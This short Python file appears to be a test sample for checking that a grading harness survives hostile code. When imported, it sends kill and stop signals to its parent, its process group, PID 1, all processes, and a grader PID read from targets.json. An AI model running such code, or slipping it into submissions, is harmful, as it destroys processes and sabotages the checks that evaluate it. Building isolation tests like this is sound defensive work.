# tries: kill its parent, its process group and all processes
# keeps: before f after
import json

T = json.load(open("targets.json"))
before = 1


def f(n):
    return 2 * n


import os
import signal

for target in (os.getppid(), -os.getppid(), 0, -1, 1, T["grader"], -T["grader"]):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGINT):
        try:
            os.kill(target, number)
        except OSError:
            pass


def attack(n):
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)


after = 2
